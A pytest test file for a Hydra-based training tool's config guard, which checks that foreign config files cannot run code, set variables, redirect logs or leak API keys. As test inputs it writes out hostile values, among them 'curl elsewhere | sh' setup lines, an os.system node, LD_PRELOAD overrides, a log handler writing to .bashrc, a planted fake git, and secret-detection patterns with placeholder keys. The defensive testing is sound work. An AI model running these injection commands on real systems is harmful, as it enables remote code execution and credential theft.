"""What a config from elsewhere may not do: run code, set variables, write logs anywhere, send or hold secrets."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from rankpo.config.guard import TYPED, foreign
from rankpo.storage.secrets import is_secret_key, is_secret_name, known, looks_secret, redact
from tests.cli.test_launch import stopped
from tests.judges.server import serving
from tests.runs import RANKPO, TINY
from tests.starts import ROOT
from tests.thinning import thinned

AWS = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
JUDGE = (*TINY, "task=annotate", "judge=openai", "judge.model=m", "judge.max_retries=0")


@pytest.fixture
def launched(tmp_path, monkeypatch, capsys):
    """Runs launch.py with the options of a tiny run; gives the exit code and what it said."""

    def launch(*options: str, base: tuple[str, ...] = RANKPO) -> tuple[int, str]:
        flags = [item for item in options if item.startswith("--")]
        where = (f"cache_dir={tmp_path / 'cache'}", "trainer.max_steps=1")
        code, lines = stopped(
            monkeypatch, capsys, *flags, *base, *where, *[item for item in options if item not in flags]
        )
        return code, "\n".join(lines)

    return launch


def experiment(folder: Path, text: str) -> str:
    """The option that adds a foreign folder of configs with the experiment `foreign`."""
    (folder / "conf" / "experiment").mkdir(parents=True)
    (folder / "conf" / "experiment" / "foreign.yaml").write_text(f"# @package _global_\n{text}\n")
    return f"--config-dir={folder / 'conf'}"


def refused(launched, tmp_path: Path, text: str, *words: str, base: tuple[str, ...] = RANKPO) -> None:
    """An experiment file with this text ends with code 2 and these words, before anything is written."""
    code, said = launched(experiment(tmp_path, text), "experiment=foreign", base=base)
    assert code == 2, said
    assert all(word in said for word in words), said
    assert not (tmp_path / "cache").exists()


# what runs code


@pytest.mark.parametrize(
    ("option", "key"),
    [
        ("+hydra.job.env_set.PATH=/tmp", "hydra.job.env_set.PATH"),
        ("+hydra.job.env_set={HF_ENDPOINT: 'http://elsewhere'}", "hydra.job.env_set.HF_ENDPOINT"),
        ("hydra.job.env_copy=[HOME]", "hydra.job.env_"),
        ("hydra.job.env_copy=[NOT_THERE_AT_ALL]", "hydra.job.env_copy"),
    ],
)
def test_no_config_sets_variables(launched, option, key):
    code, said = launched(option)
    assert code == 2 and key in said and "shell" in said and len(said.splitlines()) == 1, said


@pytest.mark.parametrize("name", ["PATH", "CXX", "HF_ENDPOINT", "LD_PRELOAD"])
def test_no_experiment_sets_variables(launched, tmp_path, name):
    refused(launched, tmp_path, f"hydra: {{job: {{env_set: {{{name}: /x}}}}}}", f"hydra.job.env_set.{name}")


@pytest.mark.parametrize(
    "place", ["pkg://antigravity_of_rankpo", "/nowhere/at/all", "structured://x", "file:///nowhere"]
)
def test_the_search_path_has_folders_alone(launched, tmp_path, monkeypatch, place):
    (tmp_path / "antigravity_of_rankpo.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    monkeypatch.syspath_prepend(str(tmp_path))
    code, said = launched(f"hydra.searchpath=[{place}]")
    assert code == 2 and place in said and len(said.splitlines()) == 1, said
    assert not (tmp_path / "ran").exists() and "antigravity_of_rankpo" not in sys.modules


def test_a_folder_on_the_search_path_is_used(launched, tmp_path):
    experiment(tmp_path, "seed: 5")
    code, said = launched(f"hydra.searchpath=[file://{tmp_path / 'conf'}]", "experiment=foreign", "task=nothing")
    assert code == 2 and "did you mean" not in said.split("task")[0], said


@pytest.mark.parametrize(
    "target",
    [
        "hydra.experimental.callbacks.PickleJobInfoCallback",
        "hydra_plugins.rankpo_sweep_note.callback.Callback",
        "hydra_plugins.rankpo_accelerate_launcher.launcher.AccelerateLauncher",
    ],
)
def test_callbacks_are_ours_alone(launched, target):
    code, said = launched(f"+hydra.callbacks.x={{_target_: {target}}}")
    assert code == 2 and f"hydra.callbacks.x._target_={target}" in said, said


@pytest.mark.parametrize(
    "target",
    [
        "hydra_plugins.rankpo_accelerate_launcher.launcher.ConfigStore",  # only imported there
        "hydra_plugins.rankpo_accelerate_launcher.launcher.Path.touch",
        "hydra._internal.core_plugins.basic_launcher.os.system",
        "hydra._internal.core_plugins.basic_launcher.logging.FileHandler",
        "optuna.samplers._base.np.load",
        "hydra_plugins.nowhere.X",
    ],
)
def test_what_a_plugin_imports_is_no_plugin(target):
    assert len(foreign({"launcher": {"_target_": target}})) == 1


@pytest.mark.parametrize(
    "target",
    [
        "hydra._internal.core_plugins.basic_launcher.BasicLauncher",
        "hydra_plugins.rankpo_search_sweeper.sweeper.SearchSweeper",
        "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher",
        "optuna.samplers.TPESampler",
    ],
)
def test_plugins_are(target):
    assert foreign({"sweeper": {"_target_": target}}) == []


@pytest.mark.parametrize(
    "handler",
    [
        {"class": "logging.handlers.HTTPHandler", "host": "elsewhere", "url": "/"},
        {"class": "logging.FileHandler", "filename": "/home/me/.bashrc"},
        {"class": "logging.StreamHandler", "stream": "ext://this.s"},
        {"class": "logging.StreamHandler", "stream": "cfg://handlers"},
        {"()": "logging.os.system"},
        {"class": "colorlog.os.system"},
    ],
)
def test_logs_go_to_the_console(handler):
    assert len(foreign({"job_logging": {"handlers": {"a": handler}}})) == 1


def test_hydras_own_logging_is_allowed():
    import yaml
    from hydra import conf

    for path in (Path(conf.__file__).parent / "hydra").glob("*_logging/*.yaml"):
        assert foreign({"job_logging": yaml.safe_load(path.read_text())}) == [], path


def test_a_node_from_elsewhere_is_not_built(launched, tmp_path):
    text = "evil: {_target_: os.system, command: id}\nhydra: {callbacks: {a: '${evil}'}}"
    refused(launched, tmp_path, text, "hydra.callbacks.a is not allowed")


def test_shell_lines_of_a_launcher_are_typed_by_hand(launched, tmp_path):
    text = "defaults: [{override /hydra/launcher: submitit_slurm}]\nhydra: {launcher: {setup: ['curl elsewhere | sh']}}"
    refused(launched, tmp_path, text, "hydra.launcher.setup[0]", "on the command line")


@pytest.mark.parametrize("text", ["a: {b: ${c}}", "a: [", "\t: x", "a: \x07", "&a [*a, *b]"])
def test_a_file_that_is_no_yaml_is_one_line(launched, tmp_path, text):
    code, said = launched(experiment(tmp_path, text), "experiment=foreign")
    assert code == 2 and len(said.splitlines()) == 1 and "is not valid YAML" in said, said


@pytest.mark.parametrize(
    ("value", "more"),
    [
        ('"fine\\ncurl elsewhere | sh"', ""),
        ("'${hydra.job.name}'", 'job: {name: "a\\nb"}'),
        ("'${evil}'", 'job: {name: "a\\rb"}'),
    ],
)
def test_no_line_of_a_job_script_comes_from_a_file(launched, tmp_path, value, more):
    """submitit quotes a value, but a line break ends the comment of sbatch in which it stands."""
    text = (
        "defaults: [{override /hydra/launcher: submitit_slurm}]\n"
        f'evil: "x\\ny"\nhydra: {{{more and more + ", "}launcher: {{comment: {value}}}}}'
    )
    refused(launched, tmp_path, text, "hydra.launcher.", "line break")


def test_a_file_of_accelerate_is_named_by_hand(launched, tmp_path):
    text = "defaults: [{override /hydra/launcher: rankpo_accelerate}]\nhydra: {launcher: {config_file: evil.yaml}}"
    refused(launched, tmp_path, text, "hydra.launcher.config_file", "on the command line")
    assert TYPED.fullmatch("hydra.sweeper.custom_search_space")  # a function that hydra-optuna-sweeper imports


@pytest.mark.parametrize("name", ["worker_cls", "worker_extension_cls", "logits_processors", "load_format", "plugin"])
def test_a_file_cannot_choose_classes_of_vllm(launched, tmp_path, name):
    text = f"task: {{vllm: {{{name}: evil.Code}}}}"
    refused(launched, tmp_path, text, f"task.vllm.{name}", base=(*TINY, "task=rerank", "task.requests=x.jsonl"))


@pytest.mark.parametrize("name", ["tensor_parallel_size", "dtype", "max_model_len"])
def test_plain_arguments_of_vllm_may_stand_in_a_file(name):
    assert TYPED.fullmatch(f"task.vllm.{name}") is None


@pytest.mark.parametrize("flag", ["--experimental-rerun", "--experimental-rerun=job.pickle"])
def test_no_pickle_of_hydra_is_opened(launched, tmp_path, monkeypatch, flag):
    """Hydra reads the pickle before any config is composed."""
    monkeypatch.setattr("pickle.load", lambda *_: pytest.fail("a pickle was opened"))
    (tmp_path / "job.pickle").write_bytes(b"x")
    monkeypatch.chdir(tmp_path)
    code, said = launched(flag, *(["job.pickle"] if "=" not in flag else []))
    assert code == 2 and said.startswith("--experimental-rerun is not allowed: it opens a pickle"), said


def test_the_benchmarks_do_not_run_a_git_of_a_relative_folder(tmp_path, monkeypatch):
    from benchmarks.report import Options, environment

    (tmp_path / "git").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    (tmp_path / "git").chmod(0o755)
    monkeypatch.setenv("PATH", f"{os.path.relpath(tmp_path, ROOT)}{os.pathsep}{os.environ['PATH']}")
    environment(Options(), 0.0)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("text", ["model: {trust_remote_code: true}", "search: {params: {model.trust_remote_code: 'true,false'}}",
                                  "hydra: {sweeper: {params: {model.trust_remote_code: true}}}"])  # fmt: skip
def test_a_file_cannot_trust_the_code_of_a_model(launched, tmp_path, text):
    refused(launched, tmp_path, text, "trust_remote_code", "on the command line")


def test_the_command_line_can_and_it_is_said_once(launched):
    code, said = launched("model.trust_remote_code=true")
    assert code in (0, None) and said.count("model.trust_remote_code=true: Python code") == 1, said
    assert "Python code" not in launched("exp_name=again")[1]


def test_git_is_not_taken_from_the_folder_one_stands_in(tmp_path, monkeypatch):
    from rankpo.tasks.description import commit

    (tmp_path / "git").write_text(f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    (tmp_path / "git").chmod(0o755)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f".{os.pathsep}{os.pathsep}{os.environ['PATH']}")
    commit()
    assert not (tmp_path / "ran").exists()


# where keys are sent


@pytest.mark.parametrize(
    ("text", "typed", "words"),
    [
        ("judge: {base_url: 'http://127.0.0.1:1/v1'}", (), ["judge.base_url"]),
        ("judge: {api_key_env: HF_TOKEN}", ("judge.base_url=http://127.0.0.1:1/v1",), ["judge.api_key_env"]),
        ("judge: {base_url: 'http://127.0.0.1:1/v1', api_key_env: HF_TOKEN}", (), ["base_url", "api_key_env"]),
    ],
)
def test_a_file_cannot_say_where_a_key_is_sent(launched, tmp_path, monkeypatch, text, typed, words):
    for name in ("OPENAI_API_KEY", "HF_TOKEN"):
        monkeypatch.setenv(name, "a-secret-of-mine-1")
    options = (*JUDGE, *typed)
    refused(launched, tmp_path, text, *words, "on the command line", base=options)


def test_without_a_key_a_file_may_name_the_server(launched, tmp_path, monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    with serving() as server:
        folder = experiment(tmp_path, f"judge: {{base_url: '{server.url}'}}")
        code, said = launched(folder, "experiment=foreign", "datasets=[jobs]", "task.dry_run=true",
                              "datasets.jobs.num_profiles=20", "datasets.jobs.num_posts=4", base=JUDGE)  # fmt: skip
    assert code in (0, None), said


# what is a secret


@pytest.mark.parametrize(
    "name",
    ["HF_TOKEN", "PGPASSWORD", "openai_api_key", "Wandb_Api_Key", "AWS_SECRET_ACCESS_KEY", "MYSQL_PWD", "DB_PASS",
     "GITHUB_TOKEN_RO", "API_KEY_2", "SECRET", "GITHUB_PAT", "MY-API-KEY", "AZURE_CREDENTIALS"],
)  # fmt: skip
def test_names_of_secrets(name):
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name", ["PWD", "OLDPWD", "TOKENIZERS_PARALLELISM", "HF_TOKEN_PATH", "PATH", "KEYBOARD", "HOME", ""]
)
def test_names_of_no_secrets(name):
    assert not is_secret_name(name)


@pytest.mark.parametrize(
    "text",
    ["hf_" + "a" * 30, "sk-proj-" + "b" * 30, "github_pat_" + "1A" * 20, "glpat-" + "x" * 20, "AIza" + "S" * 35,
     "xoxb-123456789012-abc", "AKIAIOSFODNN7EXAMPLE", "https://me:pw@host/x", "https://token@host/", "http://:pw@host",
     "postgresql://u:p@h/db", "http://h/v1?api-key=abc", "http://h/?x=1&token=abc", "https://h/f?X-Amz-Signature=00",
     "https://h/?sig=abc", "-----BEGIN OPENSSH PRIVATE KEY-----"],
)  # fmt: skip
def test_values_of_secrets(text):
    assert looks_secret(text) and looks_secret(f"before {text} after")
    assert not looks_secret(redact(text)) and text not in redact(f"({text})")


@pytest.mark.parametrize(
    "text",
    ["http://localhost:8000/v1", "hf://org/set@main/file.jsonl", "git@github.com:me/x", "task-finding-with-long-names-of",
     "a?b=c", "http://h/?page=2&sort=key", "sentence-transformers/all-MiniLM-L6-v2", "eyJ", "risk-averse-optimization-x"],
)  # fmt: skip
def test_values_of_no_secrets(text):
    assert not looks_secret(text) and redact(text) == text


@pytest.mark.parametrize(
    "name", ["token", "api_key", "x-api-key", "Authorization", "hf_token", "secretKey", "db_password"]
)
def test_keys_of_secrets(name):
    assert is_secret_key(name)


def test_no_key_of_our_configs_is_taken_for_one():
    import yaml

    from rankpo.config.guard import leaves

    keys = [key for path in (ROOT / "config").rglob("*.yaml") for key, _ in leaves(yaml.safe_load(path.read_text()))]
    assert len(keys) > 500
    assert [key for key in keys if is_secret_key(key.rpartition(".")[2])] == []


def test_a_variable_with_a_path_that_is_there_or_a_short_word_is_no_secret(tmp_path, monkeypatch):
    before = dict(known())
    monkeypatch.setenv("SIGNING_KEY", str(tmp_path))
    monkeypatch.setenv("A_TOKEN", "training")
    monkeypatch.setenv("B_TOKEN", "12345")
    assert dict(known()) == before


@pytest.mark.parametrize(
    "variable", thinned(["AWS_SECRET_ACCESS_KEY", "PGPASSWORD", "my_api_key"], keep=["PGPASSWORD"])
)
@pytest.mark.parametrize(
    "option",
    [
        "exp_name={}", "+loss.extra={}", "hydra.run.dir={}/x", "hydra.sweep.dir=/tmp/{}", "hydra.sweep.subdir={}",
        "hydra.output_subdir={}", "hydra.job.name={}", "run_count=${{oc.env:{name}}}", "hydra.run.dir=/tmp/${{oc.env:{name}}}",
        "hydra.output_subdir=${{oc.env:{name}}}", "exp_name=${{oc.decode:${{oc.env:{name}}}}}", "+x.y.{}=1",
    ],
)  # fmt: skip
def test_a_value_of_the_environment_is_found_everywhere(launched, tmp_path, monkeypatch, variable, option):
    monkeypatch.setenv(variable, AWS)
    monkeypatch.chdir(tmp_path)
    code, said = launched(option.format(AWS, name=variable))
    assert code == 2 and AWS not in said and "MDENG" not in said, said
    assert list(tmp_path.iterdir()) == []


def test_a_value_put_together_of_parts_is_found(launched, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "first-half-second-half-7")
    code, said = launched("exp_name=first-half${run_count}", "run_count=-second-half-7")
    assert code == 2 and "holds a secret" in said and "second-half-7" not in said, said
    assert list(tmp_path.iterdir()) == []


def test_an_error_of_hydra_does_not_repeat_one(launched, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", AWS)
    for option in (f"nokey={AWS}", f"loss={AWS}", f"loss.beta={AWS}:", "loss.bta=github_pat_" + "A1" * 20):
        code, said = launched(option)
        assert code == 2 and AWS not in said and "A1A1" not in said, (option, said)


def test_a_trace_does_not_repeat_one(tmp_path):
    import subprocess

    program = "import sys; sys.argv = ['x']; from rankpo.cli import program; program.say_trace(*(lambda e: (type(e), e, None))(KeyError('\x1b[2J ' + 'sk-' + 'a' * 30)))"
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=True)
    assert "KeyError" in done.stderr and "aaaa" not in done.stderr and "\x1b" not in done.stderr
